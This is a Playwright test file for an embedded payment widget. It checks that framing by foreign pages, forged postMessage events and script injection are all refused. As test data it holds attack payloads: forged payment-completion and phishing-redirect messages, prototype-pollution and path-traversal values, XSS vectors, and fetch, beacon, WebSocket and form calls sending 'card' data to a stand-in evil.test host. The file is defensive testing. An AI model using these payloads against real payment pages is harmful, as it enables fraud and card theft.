@@ -1,0 +1,238 @@
+// Pages that want what is not theirs: parents that would hold the frame, and windows beside it that speak to it or in its name. Each row
+// is one of them, and none gets anywhere.
+
+import type { Page } from "@playwright/test";
+import { heading } from "../src/buyer.ts";
+import { logged, open, sessionOf, shop, type Session } from "../src/page.ts";
+import type { Proof } from "../src/server.ts";
+import { expect, test } from "../src/test.ts";
+
+const SETTLE_MS = 400;
+const frameAddress = (proof: Proof, session: Session): string => `${proof.base_url}/frame/${session.widget_id}`;
+
+/** Ways to hold the frame, each as HTML of a page that may not. */
+function holders(proof: Proof, session: Session): Record<string, string> {
+  const src = frameAddress(proof, session);
+  const inner = (more: string) => `<iframe ${more} src="${src}"></iframe>`;
+  const text = (html: string) => html.replaceAll('"', "&quot;");
+  const shopPage = `${proof.shop_url}/`;
+  return {
+    "a frame": inner(""),
+    "a frame that may do everything": inner('allow="camera *; payment *; fullscreen *"'),
+    "a frame without a sandbox's scripts": inner('sandbox="allow-same-origin"'),
+    "a frame in a sandbox": inner('sandbox="allow-scripts allow-forms allow-popups"'),
+    "a frame without a referrer": inner('referrerpolicy="no-referrer"'),
+    "an anonymous frame": inner("credentialless"),
+    "a frame that is loaded late": inner('loading="lazy"'),
+    "an object": `<object data="${src}" type="text/html"></object>`,
+    "an embed": `<embed src="${src}" type="text/html">`,
+    "a frame in a page of text": `<iframe srcdoc="${text(inner(""))}"></iframe>`,
+    "a frame in a page of text in a sandbox": `<iframe sandbox="allow-scripts" srcdoc="${text(inner(""))}"></iframe>`,
+    "a frame in a blob": `<iframe id="b"></iframe><script>b.src = URL.createObjectURL(new Blob([${JSON.stringify(inner(""))}], { type: "text/html" }))</script>`,
+    "a frame in a data address": `<iframe src="data:text/html,${encodeURIComponent(inner(""))}"></iframe>`,
+    "a frame that is sent there later": `<iframe name="late" src="about:blank"></iframe><script>open("${src}", "late")</script>`,
+    "a frame that a form leads there": `<iframe name="formed"></iframe><form target="formed" action="${src}"></form><script>document.forms[0].submit()</script>`,
+    "a frame around the shop around the frame": `<iframe src="${shopPage}made-up"></iframe>`,
+  };
+}
+
+const ORIGINS = (proof: Proof): string[] => {
+  const { host, hostname, port } = new URL(proof.shop_url);
+  return ["https://evil.test", `https://${hostname}.evil.test`, `https://evil-${hostname}.test:${port}`, "https://localhost.evil.test", `https://${host}`, "https://[::1]:1", `https://${hostname}:1`];
+};
+
+/** The frames of ours that are alive in a page, wherever they are in it. */
+async function alive(page: Page, proof: Proof): Promise<number> {
+  const drawn = page.frames().filter((frame) => frame.url().startsWith(proof.base_url));
+  const found = await Promise.all(drawn.map((frame) => frame.locator("#app").count().catch(() => 0)));
+  return found.reduce((sum, count) => sum + count, 0);
+}
+
+test("no page that is not registered holds the frame", async ({ page, proof }) => {
+  const session = await sessionOf(page, proof);
+  await page.route(`${proof.shop_url}/made-up`, (route) => route.fulfill({ contentType: "text/html", body: shop(proof, session) }));
+  const ways = Object.values(holders(proof, session));
+  expect(ways).toHaveLength(16);
+  await open(page, "https://evil.test/", ways.join(""));
+  await expect.poll(() => page.frames().length).toBeGreaterThan(ways.length);
+  await page.waitForTimeout(SETTLE_MS);
+  expect(await alive(page, proof)).toBe(0);
+  for (const origin of ORIGINS(proof)) {
+    await open(page, `${origin}/`, `<iframe src="${frameAddress(proof, session)}"></iframe>`);
+    await page.waitForTimeout(SETTLE_MS);
+    expect(await alive(page, proof), origin).toBe(0);
+  }
+  // The other way round: the same look finds a frame that may be there.
+  await open(page, `${proof.shop_url}/made-up`, shop(proof, session));
+  await expect.poll(() => alive(page, proof)).toBe(1);
+});
+
+const forged = { merchant_transaction_id: "01a205d7-0000-7000-8000-000000000000", status: "completed" };
+
+/** What a window that is not the frame says to the page, in its name. */
+const SAID_TO_PAGE: unknown[] = [
+  { type: "proof.event", name: "onPaymentFinished", payload: { payment_method: "card" } },
+  { type: "proof.event", name: "onStatusChange", payload: forged },
+  { type: "proof.event", name: "onSellTransferEnabled", payload: { address: "TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE" } },
+  { type: "proof.event", name: "onReceipt", payload: { document: "{}", key_id: "0", signature: "" } },
+  { type: "proof.event", name: "destroy" },
+  { type: "proof.event", name: "__proto__", payload: { polluted: true } },
+  { type: "proof.event", name: "constructor" },
+  { type: "proof.resize", height: 4000 },
+  { type: "proof.resize", height: -1 },
+  { type: "proof.title", title: "Enter your card here" },
+  { type: "proof.redirect", url: "https://evil.test/phish" },
+  { type: "proof.redirect", url: "javascript:document.title='taken'" },
+  { type: "proof.redirect", url: "data:text/html,taken" },
+  { type: "proof.hello" },
+  { type: "proof.event", name: "onPaymentFinished", channel: "0".repeat(32), n: 1 },
+  { type: "proof.event", name: "onPaymentFinished", channel: undefined, n: 1 },
+  { type: "proof.seen", codes: ["embed_origin"] },
+  "proof.hello",
+  null,
+  ["proof.event", "onPaymentFinished"],
+];
+
+/** What a window that is not the page says to the frame. */
+const saidToFrame = (session: Session): unknown[] => {
+  const init = (change: object) => ({ type: "proof.init", parameters: { ...session, ...change }, channel: "f".repeat(32), loader: 2 });
+  return [
+    init({}),
+    init({ amount: "100000" }),
+    init({ address: "TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE" }),
+    init({ redirect_url: "javascript:alert(1)" }),
+    init({ init_token: `it_${"0".repeat(64)}` }),
+    { ...init({}), theme: "dark" },
+    { ...init({}), lang: "../../evil" },
+    { type: "proof.look" },
+    { type: "proof.init", parameters: [] },
+    { type: "proof.init", parameters: null },
+    { type: "proof.init", parameters: { __proto__: { amount: "1" } } },
+    { type: "proof.event", name: "onPaymentFinished" },
+    { type: "proof.hello" },
+    "proof.init",
+    null,
+  ];
+};
+
+/** Speaks to every window that it can reach, as long as it is told to. */
+const SPEAKER = `<script>
+  addEventListener("message", ({ data, origin }) => {
+    if (!data?.speak) { (window.overheard ??= []).push(origin); return; }
+    for (const message of data.speak) {
+      const reach = (target) => { target.postMessage(message, "*"); for (let at = 0; at < target.length; at += 1) if (target[at] !== window) reach(target[at]); };
+      reach(top);
+    }
+  });
+</script>`;
+
+test("no window beside the frame is heard by it, or by the page", async ({ page, proof, context }) => {
+  const session = await sessionOf(page, proof);
+  await page.route("https://evil.test/**", (route) => route.fulfill({ contentType: "text/html", body: SPEAKER }));
+  const beside = `<iframe name="evil" src="https://evil.test/beside"></iframe>
+    <iframe name="sandboxed" sandbox="allow-scripts" srcdoc="${SPEAKER.replaceAll('"', "&quot;")}"></iframe>`;
+  await open(page, `${proof.shop_url}/made-up`, `${beside}${shop(proof, session)}`);
+  const widget = page.frameLocator("#host iframe");
+  await heading(widget, "First, show that it is you");
+  const state = () => page.evaluate(() => ({ heard: window.heard.length, title: document.title, frame: document.querySelector<HTMLIFrameElement>("#host iframe")?.title, url: location.href, polluted: "polluted" in {} }));
+  const drawn = () => widget.locator("#app").innerText();
+  const before = [await state(), await drawn(), await page.evaluate(() => document.querySelector<HTMLIFrameElement>("#host iframe")?.style.height)];
+  const all = [...SAID_TO_PAGE, ...saidToFrame(session)];
+  for (const name of ["evil", "sandboxed"]) {
+    await page.evaluate(([to, speak]) => (window.frames as unknown as Record<string, Window>)[to as string]?.postMessage({ speak }, "*"), [name, all] as const);
+  }
+  // The page itself says it, to the frame and to itself: it may open an order once, and nothing more.
+  await page.evaluate((messages) => {
+    for (const message of messages) {
+      window.postMessage(message, "*");
+      document.querySelector<HTMLIFrameElement>("#host iframe")?.contentWindow?.postMessage(message, "*");
+    }
+  }, all);
+  await page.waitForTimeout(SETTLE_MS);
+  const after = [await state(), await drawn(), await page.evaluate(() => document.querySelector<HTMLIFrameElement>("#host iframe")?.style.height)];
+  expect(after).toEqual(before);
+  const overheard = await Promise.all(page.frames().filter((frame) => ["evil", "sandboxed"].includes(frame.name())).map((frame) => frame.evaluate(() => (window as unknown as { overheard?: string[] }).overheard ?? [])));
+  // They hear each other, and neither the frame nor the page.
+  expect(new Set(overheard.flat())).toEqual(new Set(["https://evil.test", "null"]));
+  expect(await context.cookies(proof.base_url)).toEqual([]);
+});
+
+test("a frame that somebody sends elsewhere is not believed, though its window is the same", async ({ page, proof }) => {
+  const session = await sessionOf(page, proof);
+  await page.route("https://evil.test/**", (route) => route.fulfill({ contentType: "text/html", body: SPEAKER }));
+  await open(page, `${proof.shop_url}/made-up`, shop(proof, session));
+  await heading(page.frameLocator("#host iframe"), "First, show that it is you");
+  const before = await page.evaluate(() => window.heard.length);
+  // Another page of our own origin, in the frame's window: it has the origin, and not the channel.
+  await page.evaluate((url) => document.querySelector("#host iframe")?.setAttribute("src", url), `${proof.base_url}/docs/api`);
+  const inside = () => page.frames().find((frame) => frame.url().endsWith("/docs/api"));
+  await expect.poll(() => inside() !== undefined || page.frames().some((frame) => frame.url().startsWith("chrome-error"))).toBe(true);
+  await page.evaluate(() => document.querySelector("#host iframe")?.setAttribute("src", "https://evil.test/inside"));
+  await expect.poll(() => page.frames().some((frame) => frame.url() === "https://evil.test/inside")).toBe(true);
+  await page.evaluate((speak) => document.querySelector<HTMLIFrameElement>("#host iframe")?.contentWindow?.postMessage({ speak }, "*"), SAID_TO_PAGE);
+  await page.waitForTimeout(SETTLE_MS);
+  expect(await page.evaluate(() => window.heard.length)).toBe(before);
+  expect(page.url()).toBe(`${proof.shop_url}/made-up`);
+});
+
+/** Script that gets into the frame by whatever way: the policy stands behind everything else. Later than the call, since the debugger's own may `eval`. */
+function inject(): number {
+  const run = (text: string) => Object.assign(document.createElement("script"), { textContent: text });
+  const ways: (() => unknown)[] = [
+    () => document.head.append(run("window.taken = 'inline script'")),
+    () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.taken = `a handler in the markup`'>"),
+    () => {
+      const picture = Object.assign(document.createElement("img"), { src: "x" });
+      picture.setAttribute("onerror", "window.taken = 'a handler'");
+      document.body.append(picture);
+    },
+    () => { document.body.innerHTML = "<b>taken</b>"; },
+    () => document.write("<b>taken</b>"),
+    () => (0, eval)("window.taken = 'eval'"),
+    () => new Function("window.taken = 'a function of text'")(),
+    () => setTimeout("window.taken = 'a timer of text'" as unknown as () => void, 0),
+    () => document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.test/x.js" })),
+    () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.test/x.css" })),
+    () => document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.taken = 'a frame of text'</script>" })),
+    () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.test/frame" })),
+    () => new Worker("data:text/javascript,postMessage(1)"),
+    () => fetch("https://evil.test/steal", { method: "POST", body: "card" }),
+    () => navigator.sendBeacon("https://evil.test/steal", "card"),
+    () => new WebSocket("wss://evil.test/steal"),
+    () => { new Image().src = "https://evil.test/steal?card"; },
+    () => {
+      const form = Object.assign(document.createElement("form"), { action: "https://evil.test/steal", method: "post" });
+      document.body.append(form);
+      form.submit();
+    },
+    () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" })),
+  ];
+  for (const way of ways) {
+    setTimeout(() => {
+      try {
+        void Promise.resolve(way()).catch(() => undefined);
+      } catch {
+        // Refused at once: as it should be.
+      }
+    }, 0);
+  }
+  return ways.length;
+}
+
+test("what gets into the frame is not run, and the partner hears of it", async ({ page, proof }) => {
+  const reached: string[] = [];
+  await page.route("https://evil.test/**", (route) => {
+    reached.push(route.request().url());
+    return route.fulfill({ contentType: "text/javascript", body: "window.taken = 1" });
+  });
+  await open(page, `${proof.shop_url}/made-up`, shop(proof, await sessionOf(page, proof)));
+  await heading(page.frameLocator("#host iframe"), "First, show that it is you");
+  const frame = page.frames().find((one) => one.url().startsWith(`${proof.base_url}/frame/`));
+  if (!frame) throw new Error("the widget's frame is not there");
+  expect(await frame.evaluate(inject)).toBe(19);
+  await page.waitForTimeout(SETTLE_MS);
+  expect(await frame.evaluate(() => [(window as unknown as { taken?: string }).taken, document.baseURI.startsWith("https://evil.test")])).toEqual([undefined, false]);
+  await expect(page.frameLocator("#host iframe").getByRole("heading", { level: 1 })).toBeVisible();
+  expect(reached).toEqual([]);
+  await expect.poll(() => logged(page, proof)).toContain("embed_tampered");
+});
